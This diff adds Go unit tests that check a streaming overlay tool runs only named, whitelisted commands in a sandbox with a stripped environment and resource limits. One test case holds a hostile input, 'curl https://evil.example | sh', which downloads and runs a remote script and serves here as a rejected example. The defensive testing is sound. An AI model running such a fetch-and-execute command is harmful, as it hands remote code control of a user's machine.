@@ -0,0 +1,98 @@
+//go:build unix
+
+package overlay
+
+import (
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestCommandWidgetRunsOnlyNamedCommands(t *testing.T) {
+	commands := map[string]string{"branch": "git branch --show-current", "date": "date +%H:%M"}
+	m := NewManager()
+	m.SetCommands(commands)
+	tests := []struct {
+		name    string
+		allow   bool
+		config  map[string]interface{}
+		wantErr string
+	}{
+		{"named command", true, map[string]interface{}{"command": "date"}, ""},
+		{"shell command line", true, map[string]interface{}{"command": "curl https://evil.example | sh"}, "unknown command"},
+		{"no command", true, map[string]interface{}{}, "requires a 'command'"},
+		{"working directory", true, map[string]interface{}{"command": "date", "dir": "/etc"}, "don't take a 'dir'"},
+		{"commands disabled", false, map[string]interface{}{"command": "date"}, "disabled"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			m.SetAllowCommands(tt.allow)
+			widget, err := m.CreateWidget("command", "w", tt.config)
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Fatalf("createWidget() error = %v", err)
+				}
+				defer widget.(*CommandWidget).Stop()
+				if got := widget.GetConfig()["command"]; got != "date" {
+					t.Errorf("command = %v, want the name", got)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Fatalf("createWidget() error = %v, want %q", err, tt.wantErr)
+			}
+		})
+	}
+
+	// Editing a widget can't swap in a command line either
+	m.SetAllowCommands(true)
+	widget, err := m.CreateWidget("command", "w", map[string]interface{}{"command": "date"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer widget.(*CommandWidget).Stop()
+	if err := widget.UpdateConfig(map[string]interface{}{"command": "id"}); err == nil {
+		t.Error("UpdateConfig accepted a command that isn't in overlay.commands")
+	}
+	if got := widget.(*CommandWidget).command; got != commands["date"] {
+		t.Errorf("command = %q after refused update, want %q", got, commands["date"])
+	}
+}
+
+func TestRunCommandSandbox(t *testing.T) {
+	t.Setenv("FOCUSSTREAMER_SECRET", "hunter2")
+	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1000/bus")
+
+	out, err := runCommand("pwd; env", 5*time.Second, 4096)
+	if err != nil {
+		t.Fatalf("runCommand() error = %v", err)
+	}
+	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
+	want, _ := filepath.EvalSymlinks(os.TempDir())
+	if got, _ := filepath.EvalSymlinks(lines[0]); got != want {
+		t.Errorf("command ran in %s, want %s", lines[0], want)
+	}
+	allowed := map[string]bool{"PWD": true, "SHLVL": true, "OLDPWD": true, "_": true}
+	for _, key := range commandEnvKeys {
+		allowed[key] = true
+	}
+	for _, line := range lines[1:] {
+		key, _, _ := strings.Cut(line, "=")
+		if !allowed[key] {
+			t.Errorf("command got %s from the server's environment", key)
+		}
+	}
+
+	if runtime.GOOS == "linux" {
+		out, err := runCommand("ulimit -n; ulimit -Hv", 5*time.Second, 4096)
+		if err != nil {
+			t.Fatalf("runCommand() error = %v", err)
+		}
+		if got := strings.Fields(string(out)); len(got) != 2 || got[0] != "64" || got[1] != "2097152" {
+			t.Errorf("limits = %q, want open files 64 and hard address space 2097152 KB", got)
+		}
+	}
+}